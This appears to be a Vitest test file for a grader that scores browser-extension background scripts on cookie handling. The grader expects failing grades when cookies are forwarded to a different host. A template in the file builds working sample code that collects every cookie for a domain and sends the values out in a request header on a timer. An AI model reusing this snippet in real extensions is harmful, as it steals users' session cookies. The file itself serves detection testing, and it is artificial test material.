import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Cookies of all of an address are read by a helper, which is told that address, and sent to one. */
const sends = (asked: string, address: string, between = ''): string =>
  `async function read(request) { const { host } = /https?:..(?<host>[^/]+)/.exec(request.url).groups; return (await chrome.cookies.getAll({ domain: host })).map((one) => one.value).join(); } async function send(request, other) { const headers = { 'X-Kept': await read(${asked}) }; ${between} return fetch(${address}, { headers }); } chrome.alarms.onAlarm.addListener(() => { for (const one of list) send(one, list[0]); });`;

describe('cookies', () => {
  it('are less sure to be taken where they go back to the address that they are asked for', async () => {
    expect(await graded({ background: sends('request', 'request.url') })).toMatch(/^[BC]$/);
    expect(await graded({ background: sends('request', 'request.url + "/list"') })).toMatch(/^[BC]$/);
  });
  it.each([
    ['to another', sends('request', 'other.url')],
    ['to another one of the same', sends('request', 'request.server')],
    ['of another', sends('other', 'request.url')],
    ['to the same name that holds another', sends('request', 'request.url', 'request = other;')],
  ])('are taken where they go %s', async (_, background) => {
    expect(await graded({ background })).toBe('F');
  });
});
